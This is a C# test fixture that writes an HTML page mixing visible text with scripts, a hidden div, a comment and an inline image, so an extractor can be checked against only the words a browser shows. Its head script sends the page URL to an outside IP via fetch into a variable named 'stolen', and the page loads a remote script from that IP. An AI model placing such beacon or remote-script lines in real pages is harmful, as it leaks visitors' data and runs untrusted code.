using System.Net;
using System.Text;

namespace DocShelf.Fixtures.Office;

/// <summary>
/// Writes a web page a reader must see through: a title and author in the head, a style sheet, scripts (one that
/// would fetch), an inline image as base64, a hidden element and a comment, around sections under h2 headings and a
/// table. Only the words a browser shows are in <see cref="Shown"/>.
/// </summary>
public static class HtmlWriter
{
    /// <summary>Bytes no reader may index: an inline PNG's base64.</summary>
    public const string InlineImage = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";

    public static string Page(OfficeText text)
    {
        var body = new StringBuilder($"<h1>{Encode(text.Title)}</h1>\n");
        foreach (var page in text.Pages)
        {
            var paragraphs = OfficeText.Paragraphs(page).ToList();
            body.Append($"<section><h2>{Encode(paragraphs[0])}</h2>\n");
            body.Append(string.Concat(paragraphs.Skip(1).Select(p => $"<p>{Encode(p)}</p>\n")));
            body.Append("</section>\n");
        }

        return "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">" +
            $"<title>{Encode(text.Title)}</title><meta name=\"author\" content=\"{Encode(text.Author)}\">" +
            "<style>body { font-family: serif; } .secret { display: none; }</style>" +
            "<script>fetch('http://198.51.100.7/track?page=' + location.href); var stolen = 'scriptwords';</script></head>\n" +
            "<body><!-- an editor's comment --><nav><a href=\"#\">Home</a></nav>\n" + body +
            $"<p><img src=\"data:image/png;base64,{InlineImage}\" alt=\"\"></p>\n" +
            "<table><tr><th>Vessel</th><th>Dues</th></tr><tr><td>Schooner Curlew</td><td>6.25</td></tr></table>\n" +
            "<div hidden>hiddenwords never shown</div><noscript>noscriptwords</noscript>" +
            "<script src=\"http://198.51.100.7/remote.js\"></script></body></html>\n";
    }

    /// <summary>The words a browser shows for <see cref="Page"/>, in order.</summary>
    public static string Shown(OfficeText text) =>
        $"Home\n{text.Title}\n" + string.Join("\n", text.Pages.SelectMany(OfficeText.Paragraphs)) + "\nVessel Dues\nSchooner Curlew 6.25\n";

    private static string Encode(string text) => WebUtility.HtmlEncode(text);
}
